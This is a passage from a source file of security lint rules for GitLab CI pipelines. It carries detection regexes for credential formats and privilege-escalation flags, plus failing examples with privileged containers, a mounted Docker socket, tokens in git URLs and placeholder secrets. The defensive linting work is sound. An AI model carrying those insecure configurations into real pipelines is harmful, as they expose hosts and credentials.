          fix { remove j.variables["CI_DEBUG_TRACE"] }
        require count(job_on) > 0 or count(global_on) == 0
          else "job '${j.name}' runs with ${first(global_on)} set to true for the whole pipeline: its log shows every variable, masked ones included" at default(pipeline.variables[first(global_on)].value, pipeline.variables[first(global_on)])
          fix { remove pipeline.variables["CI_DEBUG_TRACE"] }
        let rule_on = filter(r in j.rules_list,
          lower(trim(to_string(default(default(r.variables.CI_DEBUG_TRACE.value, r.variables.CI_DEBUG_TRACE), "")))) == "true")
        let workflow_on = filter(r in default(pipeline.workflow.rules, []),
          lower(trim(to_string(default(default(r.variables.CI_DEBUG_TRACE.value, r.variables.CI_DEBUG_TRACE), "")))) == "true")
        require count(rule_on) == 0
          else "a rule of job '${j.name}' sets CI_DEBUG_TRACE to true: when it matches, the log shows every variable, masked ones included" at default(first(rule_on).variables.CI_DEBUG_TRACE.value, first(rule_on).variables.CI_DEBUG_TRACE)
          # The job's own `rules:` entries (spliced `!reference` rules are another entity's: no fix).
          fix {
            for i in filter(i in map(i, r in default(j.rules, []), i),
                lower(trim(to_string(default(default(j.rules[i].variables.CI_DEBUG_TRACE.value, j.rules[i].variables.CI_DEBUG_TRACE), "")))) == "true") {
              remove j.rules[i].variables.CI_DEBUG_TRACE
            }
          }
        require count(workflow_on) == 0
          else "a workflow rule sets CI_DEBUG_TRACE to true for job '${j.name}': when it matches, the log shows every variable, masked ones included" at default(first(workflow_on).variables.CI_DEBUG_TRACE.value, first(workflow_on).variables.CI_DEBUG_TRACE)
          fix {
            for i in filter(i in map(i, r in default(pipeline.workflow.rules, []), i),
                lower(trim(to_string(default(default(pipeline.workflow.rules[i].variables.CI_DEBUG_TRACE.value, pipeline.workflow.rules[i].variables.CI_DEBUG_TRACE), "")))) == "true") {
              remove pipeline.workflow.rules[i].variables.CI_DEBUG_TRACE
            }
          }

        example pass """
          variables:
            CI_DEBUG_TRACE: "false"
            CI_DEBUG_SERVICES: "true"
          build:
            script: [make]
        """
        example fail "job" """
          deploy:
            variables:
              CI_DEBUG_TRACE: ↓"true"
            script: [./deploy.sh]
        """ expect "job 'deploy' sets CI_DEBUG_TRACE to true"
        example fail "global" """
          variables:
            CI_DEBUG_TRACE: ↓"TRUE"
            CI_DEBUG_SERVICES: "true"
          test:
            script: [rake]
        """ expect "job 'test' runs with CI_DEBUG_TRACE set to true for the whole pipeline"
        example fail "rules: variables and workflow: rules: variables" """
          workflow:
            rules:
              - if: $CI_PIPELINE_SOURCE == "web"
                variables:
                  CI_DEBUG_TRACE: ↓"true"
              - when: always
          deploy:
            rules:
              - if: $DEBUG_DEPLOY
                variables:
                  CI_DEBUG_TRACE: ↓"true"
            script: [./deploy.sh]
        """ expect "a rule of job 'deploy' sets CI_DEBUG_TRACE to true" expect "a workflow rule sets CI_DEBUG_TRACE to true for job 'deploy'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/deploy_job_unrestricted.plumb",
      text: #"""
      rule deploy_job_unrestricted {
        title "Production deploy jobs run only for the default branch, protected refs or tags"
        severity medium
        category security
        tags [gitlab-ci, deployment]
        rationale """
          A deploy job without `rules:` (or `only:`) that limit it to the default branch, protected refs
          or tags also runs in pipelines for feature branches and merge requests: code nobody reviewed
          reaches production, with the production credentials the job holds, as soon as someone pushes a
          branch. Reported: jobs whose environment is named like production (`production`, `prod`,
          `live`), and jobs of a deploy-like stage without an environment. Rules with `when: never`
          exclude and are not counted; every other rule must require the default branch, a protected ref
          or a tag (`$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `$CI_COMMIT_REF_PROTECTED == "true"`,
          `$CI_COMMIT_TAG`). Protected environments, which GitLab enforces outside the file, are a
          second line of defence this rule cannot see.
        """
        remediation """
          Add `rules: [{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH'}]` (or `$CI_COMMIT_TAG`) to the job
          or its template, and make the environment a protected environment with required approvals.
        """
        param production: pattern = "(?i)(^|[/_-])(prod|production|live)([/_-]|$)"
        param deploy_stage: pattern = "(?i)^(deploy|production)([/_-].*)?$"
        param restricted: pattern = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*(==|=~)\\s*[\"'/]\\^?(main|master|production|release|stable))"
        param restricted_only: pattern = "^(main|master|production|stable|tags|release.*|/.+/)$"

        for j in gitlab.job
        let env = to_string(default(j.environment_name, ""))
        when env matches param.production or (env == "" and to_string(j.stage) matches param.deploy_stage)
        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
        let loose = filter(r in runs, not (exists(r["if"])
          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
        let only = default(j.only.refs, j.only)
        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
        require count(j.rules_list) > 0 or only_ok
          else "deploy job '${j.name}' (environment '${default(j.environment_name, "none")}', stage '${j.stage}') has no rules limiting it to the default branch, protected refs or tags: it runs for every branch and merge request"
        require count(loose) == 0
          else "a rule of deploy job '${j.name}' (environment '${default(j.environment_name, "none")}', stage '${j.stage}') lets it run for branches and merge requests: '${default(first(loose)["if"], "no if:")}' does not require the default branch, a protected ref or a tag" at default(first(loose)["if"], first(loose))

        example pass """
          deploy-prod:
            stage: deploy
            environment: production
            rules:
              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
                when: never
              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
                when: manual
            script: [./deploy.sh]
          deploy-review:
            stage: deploy
            environment: review/$CI_COMMIT_REF_SLUG
            script: [./review.sh]
          release:
            stage: deploy
            only: [tags]
            script: [./release.sh]
        """
        example fail """
          deploy-prod:
            stage: deploy
            environment:
              name: production
              url: https://example.com
            rules:
              - if: ↓$CI_MERGE_REQUEST_IID
              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
            script: [./deploy.sh]
          ↓publish:
            stage: deploy
            script: [./publish.sh]
        """ expect "a rule of deploy job 'deploy-prod' (environment 'production', stage 'deploy') lets it run for branches and merge requests: '$CI_MERGE_REQUEST_IID' does not require" expect "deploy job 'publish' (environment 'none', stage 'deploy') has no rules"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/deploy_restricted_by_branch_pattern.plumb",
      text: #"""
      rule deploy_restricted_by_branch_pattern {
        title "Production deploy jobs are not restricted by a branch-name pattern alone"
        severity medium
        category security
        tags [gitlab-ci, deployment, flow-control]
        rationale """
          A rule such as `$CI_COMMIT_BRANCH =~ /^release\//` or `only: [/^release-.*$/]` lets a deploy run
          for every branch whose name matches, and anyone who can push a branch chooses its name: a
          developer (or a compromised account) pushes `release/x` and unreviewed code reaches production
          with the production credentials. Only protected refs, the default branch or tags are
          controlled by the project's protection settings. Reported: deploy jobs (environment named like
          production, or a deploy-like stage without an environment) with a rule or `only:` entry that
          matches branch names by pattern without also requiring `$CI_COMMIT_REF_PROTECTED == "true"`.
          Protected environments, set outside the file, are a second line of defence this rule cannot
          see.
        """
        remediation "Protect the branches the pattern is meant for, and add `$CI_COMMIT_REF_PROTECTED == \"true\"` to the rule (`if: $CI_COMMIT_BRANCH =~ /^release\\// && $CI_COMMIT_REF_PROTECTED == \"true\"`), or restrict the job to the default branch or tags."
        param production: pattern = "(?i)(^|[/_-])(prod|production|live)([/_-]|$)"
        param deploy_stage: pattern = "(?i)^(deploy|production|release)([/_-].*)?$"

        for j in gitlab.job
        let env = to_string(default(j.environment_name, ""))
        when env matches param.production or (env == "" and to_string(j.stage) matches param.deploy_stage)
        let patterned = filter(r in j.rules_list, to_string(default(r.when, "")) != "never"
          and to_string(default(r["if"], "")) matches "\\$CI_(COMMIT_BRANCH|COMMIT_REF_NAME|MERGE_REQUEST_SOURCE_BRANCH_NAME)\\s*=~"
          and not (to_string(default(r["if"], "")) matches "\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true"))
        let only = default(j.only.refs, j.only)
        let only_patterns = filter(o in default(only, []), to_string(o) matches "^/.+/[a-z]*$")
        require count(patterned) == 0
          else "deploy job '${j.name}' runs for any branch whose name matches '${first(patterned)["if"]}': whoever pushes a branch chooses its name" at first(patterned)["if"]
        require count(only_patterns) == 0
          else "deploy job '${j.name}' runs for any ref matching '${first(only_patterns)}': whoever pushes a branch chooses its name" at first(only_patterns)

        example pass """
          deploy-prod:
            stage: deploy
            environment: production
            rules:
              - if: $CI_COMMIT_BRANCH =~ /^release\// && $CI_COMMIT_REF_PROTECTED == "true"
              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
            script: [./deploy.sh]
          lint:
            rules:
              - if: $CI_COMMIT_BRANCH =~ /^feature/
            script: [make lint]
        """
        example fail "rules: if with =~" """
          deploy-prod:
            stage: deploy
            environment:
              name: production
            rules:
              - if: ↓$CI_COMMIT_BRANCH =~ /^release\/.*$/
            script: [./deploy.sh]
        """ expect "deploy job 'deploy-prod' runs for any branch whose name matches '$CI_COMMIT_BRANCH =~ /^release\\/.*$/'"
        example fail "only: with a regular expression" """
          publish:
            stage: deploy
            only:
              - ↓/^release-.*$/
            script: [./publish.sh]
          live:
            stage: deploy
            environment: live
            only:
              refs:
                - ↓/^hotfix-/i
            script: [./deploy.sh]
        """ expect "deploy job 'publish' runs for any ref matching '/^release-.*$/'" expect "deploy job 'live'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/docker_dind_tls_disabled.plumb",
      text: #"""
      rule docker_dind_tls_disabled {
        title "Docker-in-Docker services use TLS"
        severity medium
        category security
        tags [gitlab-ci, insecure-configuration, containers]
        rationale """
          A `docker:dind` service started with `DOCKER_TLS_CERTDIR: ""` (or reached at
          `DOCKER_HOST: tcp://…:2375`) serves the Docker API without TLS or authentication. Every
          process that can reach the service's port (other services of the job, and on Kubernetes and
          host-networked runners other pods and jobs on the node) controls a privileged daemon: it can
          start containers with the host's devices, read the images being built and the registry
          credentials used to push them.
        """
        remediation "Remove `DOCKER_TLS_CERTDIR: \"\"` (the image then creates certificates in `/certs`), set `DOCKER_HOST: tcp://docker:2376` and `DOCKER_TLS_VERIFY: 1` with `DOCKER_CERT_PATH: /certs/client`."

        for j in gitlab.job
        let pipeline = first(j -> inPipeline)
        when any(s in j.services_refs, to_string(default(s.expanded, s.raw)) matches "(?i)dind")
        let certdir = default(j.variables.DOCKER_TLS_CERTDIR, pipeline.variables.DOCKER_TLS_CERTDIR)
        let certdir_value = default(certdir.value, certdir)
        let host = default(j.variables.DOCKER_HOST, pipeline.variables.DOCKER_HOST)
        let host_value = default(host.value, host)
        require not (exists(certdir_value) and trim(to_string(default(certdir_value, "x"))) == "")
          else "job '${j.name}' runs a Docker-in-Docker service with DOCKER_TLS_CERTDIR empty: its daemon accepts unauthenticated, unencrypted connections" at certdir_value
        require not (to_string(default(host_value, "")) matches "^tcp://[^/]+:2375/?$")
          else "job '${j.name}' talks to Docker-in-Docker at '${host_value}', the port without TLS" at host_value

        example pass """
          build:
            image: docker:27
            services: [docker:27-dind]
            variables:
              DOCKER_HOST: tcp://docker:2376
              DOCKER_TLS_CERTDIR: /certs
            script: [docker build .]
          lint:
            variables:
              DOCKER_TLS_CERTDIR: ""
            script: [make lint]
        """
        example fail "certdir empty" """
          build:
            image: docker:27
            services:
              - name: docker:27-dind
                alias: docker
            variables:
              DOCKER_TLS_CERTDIR: ↓""
            script: [docker build .]
        """ expect "job 'build' runs a Docker-in-Docker service with DOCKER_TLS_CERTDIR empty"
        example fail "global port 2375" """
          variables:
            DOCKER_HOST: ↓tcp://docker:2375
          build:
            services: [docker:dind]
            script: [docker build .]
        """ expect "job 'build' talks to Docker-in-Docker at 'tcp://docker:2375'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/docker_insecure_registry.plumb",
      text: #"""
      rule docker_insecure_registry {
        title "Container registries are not reached over plain HTTP or unchecked TLS"
        severity medium
        category security
        tags [gitlab-ci, insecure-configuration, containers]
        rationale """
          `--insecure-registry` on a `docker:dind` service (its `command:`) or a daemon started in the
          script, kaniko's `--insecure`/`--insecure-pull`/`--insecure-registry`, `buildah`/`crane`
          `--insecure` and `docker pull`/`push` of `http://` registries let the images a job pulls and
          pushes travel unencrypted or without a checked certificate: whoever sits on the network path
          swaps base images, reads the registry credentials, and replaces what is pushed.
        """
        remediation "Serve the registry over TLS with a certificate the runner trusts (mount the CA into `/etc/docker/certs.d/<registry>/ca.crt`), and drop the insecure flags."
        param insecure: pattern = "(--insecure-registry(=|\\s)|\\b(executor|kaniko|/kaniko/executor)\\b[^\\n]{0,400}\\s--insecure(-pull)?\\b|\\b(buildah|crane|regctl)\\b[^\\n]{0,400}\\s--insecure\\b|\\b(docker|podman)\\s+(pull|push|login)\\s+(-\\S+\\s+)*http://)"

        for j in gitlab.job
        let service_bad = filter(s in default(j.services, []), any(c in flatten([default(s.command, [])]), to_string(c) matches param.insecure))
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.insecure))
        require count(service_bad) == 0
          else "job '${j.name}' starts service '${first(service_bad).name}' with an insecure registry" at first(service_bad).command
        require count(lines) == 0
          else "job '${j.name}' uses a container registry without TLS checks: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.insecure)))}'" at first(lines)

        example pass """
          build:
            services:
              - name: docker:27-dind
                command: ["--registry-mirror=https://mirror.example.com"]
            script:
              - /kaniko/executor --context . --destination "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"
        """
        example fail "dind command" """
          build:
            services:
              - name: docker:27-dind
                command: ↓["--insecure-registry=registry.internal:5000"]
            script: [docker build .]
        """ expect "job 'build' starts service 'docker:27-dind' with an insecure registry"
        example fail "kaniko and buildah" """
          kaniko:
            script:
              - ↓/kaniko/executor --context . --destination registry.internal/app --insecure
          buildah:
            script:
              - ↓buildah push --insecure app registry.internal/app
        """ expect "job 'kaniko' uses a container registry without TLS checks" expect "job 'buildah'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/docker_login_password_argument.plumb",
      text: #"""
      rule docker_login_password_argument {
        title "Registry logins read the password from standard input"
        severity low
        category security
        tags [gitlab-ci, secrets, containers]
        rationale """
          `docker login -p "$PASSWORD"` (also `podman`, `buildah`, `skopeo`, `helm registry`, `oras`,
          `crane auth`) puts the password on the command line: other processes on the runner host see it
          in the process list, shells may keep it in history, and tracing (`set -x`, `CI_DEBUG_TRACE`)
          prints it; Docker itself warns. `--password-stdin` keeps it off the command line.
        """
        remediation "Pipe the password in: `echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\"`."
        param login: pattern = "\\b(docker|podman|buildah|skopeo|nerdctl|oras|helm\\s++registry|crane\\s++auth)\\s++login\\b[^\\n|]*?\\s(-p|--password)(=|\\s)"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.login))
        require count(lines) == 0
          else "job '${j.name}' passes a registry password on the command line: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.login)))}'" at first(lines)

        example pass """
          build:
            script:
              - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
              - podman login --username "$USER" --password-stdin registry.example.com < pw.txt
        """
        example fail "-p and --password=" """
          build:
            script:
              - ↓docker login -u $CI_REGISTRY_USER -p $CI_REGISTRY_PASSWORD $CI_REGISTRY
          mirror:
            script:
              - ↓skopeo login --username bot --password="$MIRROR_PASSWORD" quay.io
        """ expect "job 'build' passes a registry password on the command line" expect "job 'mirror'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/docker_run_privileged.plumb",
      text: #"""
      rule docker_run_privileged {
        title "Job scripts do not start privileged containers"
        severity medium
        category security
        tags [gitlab-ci, insecure-configuration, containers]
        rationale """
          `docker run --privileged` (also `podman`, `nerdctl`), `--cap-add=ALL`/`SYS_ADMIN`,
          `--pid=host`, `--security-opt seccomp=unconfined`/`apparmor=unconfined` or `--device` of the
          host's disks give the container the powers of root on the machine that runs it: code in the
          image (or the build context, or a dependency) escapes to the runner host, where it reads other
          jobs' files, caches and credentials and persists for later jobs.
        """
        remediation "Run the container unprivileged with only the capability it needs (`--cap-add NET_ADMIN`), or build images with rootless tools (kaniko, buildah, BuildKit rootless)."
        param privileged: pattern = "\\b(docker|podman|nerdctl)\\s+(container\\s+)?(run|create|exec)\\b[^\\n]*\\s(--privileged(=true)?(?!=false)\\b|--cap-add[= ](ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)\\b|--pid[= ]host\\b|--security-opt[= ][\"']?(seccomp|apparmor)[=:]unconfined\\b|--userns[= ]host\\b)"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.privileged))
        require count(lines) == 0
          else "job '${j.name}' starts a container with the host's privileges: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.privileged)))}'" at first(lines)

        example pass """
          test:
            script:
              - docker run --rm --cap-add NET_ADMIN app:test ./net-test
              - docker run --rm -e PRIVILEGED=1 app:test
        """
        example fail "privileged" """
          test:
            script:
              - ↓docker run --rm --privileged -v "$PWD:/src" builder make
        """ expect "job 'test' starts a container with the host's privileges"
        example fail "capabilities, pid namespace, seccomp" """
          a:
            script: [↓podman run --cap-add=SYS_ADMIN img]
          b:
            script: [↓docker container run --pid=host img]
          c:
            script: [↓docker run --security-opt seccomp=unconfined img]
        """ expect "job 'a'" expect "job 'b'" expect "job 'c'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/docker_socket_mounted.plumb",
      text: #"""
      rule docker_socket_mounted {
        title "Job scripts do not mount the Docker socket into containers"
        severity medium
        category security
        tags [gitlab-ci, insecure-configuration, containers]
        rationale """
          A container started with `-v /var/run/docker.sock:/var/run/docker.sock` (or `--mount
          …source=/var/run/docker.sock`, `/run/docker.sock`, `containerd.sock`) controls the daemon that
          runs it: it can start a privileged container with the host's root filesystem, so whatever
          runs in the image (or its dependencies) owns the runner host, its other jobs and their
          credentials.
        """
        remediation "Build with a rootless tool (kaniko, buildah, BuildKit rootless) or a `docker:dind` service with TLS, instead of handing the host's daemon to a container."
        param socket: pattern = "\\b(docker|podman|nerdctl)\\s+(container\\s+)?(run|create)\\b[^\\n]{0,400}(-v|--volume|--mount)[= ]\\S{0,200}(/var)?/run/(docker|containerd/containerd|podman/podman)\\.sock\\b"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.socket))
        require count(lines) == 0
          else "job '${j.name}' mounts the container daemon's socket into a container: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.socket)))}'" at first(lines)

        example pass """
          build:
            script:
              - docker run --rm -v "$PWD:/src" -w /src golang:1.23 go build ./...
        """
        example fail "-v and --mount" """
          scan:
            script:
              - ↓docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app
          build:
            script:
              - ↓docker run --mount type=bind,source=/run/docker.sock,target=/run/docker.sock builder
        """ expect "job 'scan' mounts the container daemon's socket" expect "job 'build'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/git_credentials_in_remote_url.plumb",
      text: #"""
      rule git_credentials_in_remote_url {
        title "Git remotes are not given credentials in their URL"
        severity medium
        category security
        tags [gitlab-ci, secrets, credentials]
        rationale """
          `git clone https://user:$TOKEN@host/repo.git` (and `git remote add`/`set-url`, `git submodule
          add`) writes the token into `.git/config` of the clone, where it outlives the command: it is
          uploaded with caches and artifacts that include the directory, left on the runner's disk for
          later jobs of shell and long-lived executors, and printed by anything that shows the remote.
          `$CI_JOB_TOKEN`, which expires with the job, is not reported; personal, project and deploy
          tokens are.
        """
        remediation "Pass the token through a credential helper or header instead (`git -c http.extraHeader=\"Authorization: Bearer $TOKEN\" clone …`, or `git config --global credential.helper` with `GIT_ASKPASS`), or use `$CI_JOB_TOKEN`."
        param persisted: pattern = "\\bgit\\s++(?:-c\\s++\\S++\\s++|-\\S++\\s++)*+(clone|remote\\s++(add|set-url)|submodule\\s++add)\\b[^\\n]*?://[^\\s/@'\"]*\\$\\{?(?!CI_JOB_TOKEN\\b)[A-Za-z_][A-Za-z0-9_]*\\}?[^\\s/@'\"]*@"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.persisted))
        require count(lines) == 0
          else "job '${j.name}' puts a credential into a Git remote URL, where .git/config keeps it: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.persisted)))}'" at first(lines)

        example pass """
          sync:
            script:
              - git clone "https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/acme/tools.git"
              - git -c http.extraHeader="Authorization: Bearer $DEPLOY_TOKEN" clone https://gitlab.example.com/acme/app.git
              - git push "https://oauth2:${PUSH_TOKEN}@gitlab.example.com/acme/app.git" HEAD:main
        """
        example fail "clone and set-url" """
          mirror:
            script:
              - ↓git clone https://oauth2:$GITLAB_TOKEN@gitlab.example.com/acme/app.git
              - cd app
          push:
            script:
              - ↓git remote set-url origin "https://${GH_TOKEN}@github.com/acme/app.git"
        """ expect "job 'mirror' puts a credential into a Git remote URL" expect "job 'push'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/hardcoded_secret_in_global_variables.plumb",
      text: #"""
      rule hardcoded_secret_in_global_variables {
        title "GitLab pipelines do not define literal secrets in global variables"
        severity high
        category security
        tags [gitlab-ci, secrets, credentials]
        rationale """
          Global `variables:` reach every job of the pipeline, and the file that defines them is readable
          by everyone who can read the repository, stays in its history and in every fork; values
          defined there are not masked in job logs. Reported: values with the prefix of a known credential
          format (`glpat-`, `glrt-`, `GR1348941`, `ghp_`, `AKIA`, PEM private keys, …) and literal values
          of at least 8 characters mixing letters and digits in variables named like a secret.
        """
        remediation "Store the value as a masked and protected CI/CD variable of the project or group, reference it as `$NAME`, and revoke the exposed value."
        param secret_names: pattern = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
        param not_secret_names: pattern = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
        param known_prefixes: pattern = "(\\bgl(pat|dt|rt|cbt|ptt|oat|ft|imt|agent)-[A-Za-z0-9_-]{20,}|\\bGR1348941[A-Za-z0-9_-]{20,}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"

        for p in gitlab.pipeline
        let literal = "^(?![\\s\\S]*\\$)(?=.*[0-9])(?=.*[A-Za-z])(?![/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
        let hits = filter(k in keys(default(p.variables, {})),
          to_string(default(p.variables[k].value, p.variables[k])) matches param.known_prefixes
          or (k matches param.secret_names and not (k matches param.not_secret_names)
              and to_string(default(p.variables[k].value, p.variables[k])) matches literal))
        require count(hits) == 0
          else "global variable '${first(hits)}' holds a literal secret (${count(hits)} such variable(s))" at default(p.variables[first(hits)].value, p.variables[first(hits)])

        example pass """
          variables:
            DOCKER_TLS_CERTDIR: "/certs"
            REGISTRY_PASSWORD: $CI_REGISTRY_PASSWORD
          build:
            script: [make]
        """
        example fail """
          variables:
            AWS_ACCESS_KEY_ID: ↓AKIAIOSFODNN7EXAMPLE
            AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
          build:
            script: [make]
        """ expect "global variable 'AWS_ACCESS_KEY_ID' holds a literal secret (2 such variable(s))"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/hardcoded_secret_in_job.plumb",
      text: #"""
      rule hardcoded_secret_in_job {
        title "GitLab jobs do not contain literal secrets"
        severity high
        category security
        tags [gitlab-ci, secrets, credentials]
        rationale """
          A token, password or key written in a job's `variables:` or `script:` is readable by everyone
          who can read the repository (and every fork and clone), stays in its history, and is not
          masked in job logs, unlike a masked CI/CD variable. Reported: values with the prefix of a known
          credential format (GitLab `glpat-`/`gldt-`/`glrt-`/`glptt-`, runner registration `GR1348941`,
          GitHub `ghp_`/`github_pat_`, AWS `AKIA`, Slack, Stripe, npm, PyPI, PEM private keys) anywhere,
          and literal values of at least 8 characters mixing letters and digits in variables named like a
          secret (`*PASSWORD*`, `*TOKEN*`, `*SECRET*`, `*API_KEY*`, …). References (`$VAULT_TOKEN`)
          are not literals. Variables inherited from templates (`extends`) are reported on each job.
        """
        remediation "Store the value as a masked and protected CI/CD variable (or fetch it with `secrets:` from Vault, or use `id_tokens:`), reference it as `$NAME`, and revoke the exposed value."
        param secret_names: pattern = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
        param not_secret_names: pattern = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
        param known_prefixes: pattern = "(\\bgl(pat|dt|rt|cbt|ptt|oat|ft|imt|agent)-[A-Za-z0-9_-]{20,}|\\bGR1348941[A-Za-z0-9_-]{20,}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"

        for j in gitlab.job
        let literal = "^(?![\\s\\S]*\\$)(?=.*[0-9])(?=.*[A-Za-z])(?![/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
        let hits = filter(k in keys(default(j.variables, {})),
          to_string(default(j.variables[k].value, j.variables[k])) matches param.known_prefixes
          or (k matches param.secret_names and not (k matches param.not_secret_names)
              and to_string(default(j.variables[k].value, j.variables[k])) matches literal))
        let lines = filter(l in j.script_lines, to_string(l) matches param.known_prefixes)
        require count(hits) == 0
          else "variable '${first(hits)}' of job '${j.name}' holds a literal secret (${count(hits)} such variable(s))" at default(j.variables[first(hits)].value, j.variables[first(hits)])
        require count(lines) == 0
          else "a script line of job '${j.name}' contains a credential with a known token format" at first(lines)

        example pass """
          deploy:
            variables:
              DB_PASSWORD: $PROD_DB_PASSWORD
              POSTGRES_PASSWORD: postgres
              TOKEN_URL: https://auth.example.com/token
              API_KEY_FILE: /run/secrets/api_key
            script:
              - curl --header "PRIVATE-TOKEN: $API_TOKEN" https://gitlab.example.com/api/v4/projects
        """
        example fail """
          deploy:
            variables:
              API_TOKEN: ↓glpat-AbCdEfGhIjKlMnOpQrSt
              SERVICE_PASSWORD:
                value: Tr0ub4dor-and-3
                description: service account
            script:
              - ↓curl -u admin:xoxb-123456789012-abcdefghijkl https://hooks.example.com
        """ expect "variable 'API_TOKEN' of job 'deploy' holds a literal secret (2 such variable(s))" expect "a script line of job 'deploy' contains a credential"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/id_token_generic_audience.plumb",
      text: #"""
      rule id_token_generic_audience {
        title "GitLab ID tokens name the service they are for"
        severity medium
        category security
        tags [gitlab-ci, identity, oidc]
        rationale """
          An `id_tokens:` entry mints an OIDC token whose `aud` claim says which service may accept it.
          A generic audience (the GitLab instance itself, `$CI_SERVER_URL`, `https://gitlab.com`, or a
          wildcard) is accepted by every relying party configured with that default, so a token minted
          for one cloud role or Vault can be replayed at another: whoever can read the token (any
          script, image or dependency the job runs) reaches all of them. An entry without `aud` is an
          error in GitLab and is reported too.
        """
        remediation "Give each token the audience of the one service that consumes it (`aud: https://vault.example.com`, `aud: sts.amazonaws.com`), and configure that service to accept only it."
        param generic: pattern = "^\\s*+(\\$\\{?CI_SERVER_(URL|HOST|FQDN)\\}?/?|https?://(www\\.)?gitlab\\.com/?|gitlab\\.com|[^*]*+\\*.*)\\s*$"

        for j in gitlab.job
        let tokens = keys(default(j.id_tokens, {}))
        when count(tokens) > 0
        let missing = filter(t in tokens, not exists(j.id_tokens[t].aud))
        let generic = filter(t in tokens, any(a in flatten([j.id_tokens[t].aud]), to_string(a) matches param.generic))
        require count(missing) == 0
          else "ID token '${first(missing)}' of job '${j.name}' has no audience" at j.id_tokens[first(missing)]
        require count(generic) == 0
          else "ID token '${first(generic)}' of job '${j.name}' is minted for a generic audience: every service trusting it accepts the token" at j.id_tokens[first(generic)].aud

        example pass """
          deploy:
            id_tokens:
              VAULT_ID_TOKEN:
                aud: https://vault.example.com
              AWS_TOKEN:
                aud: [sts.amazonaws.com]
            script: [./deploy.sh]
        """
        example fail "instance URL" """
          deploy:
            id_tokens:
              OIDC_TOKEN:
                aud: ↓$CI_SERVER_URL
            script: [./deploy.sh]
        """ expect "ID token 'OIDC_TOKEN' of job 'deploy' is minted for a generic audience"
        example fail "gitlab.com, wildcard, none" """
          a:
            id_tokens:
              T:
                aud: ↓https://gitlab.com
            script: [x]
          b:
            id_tokens:
              T:
                aud: ↓["https://*.example.com"]
            script: [x]
          c:
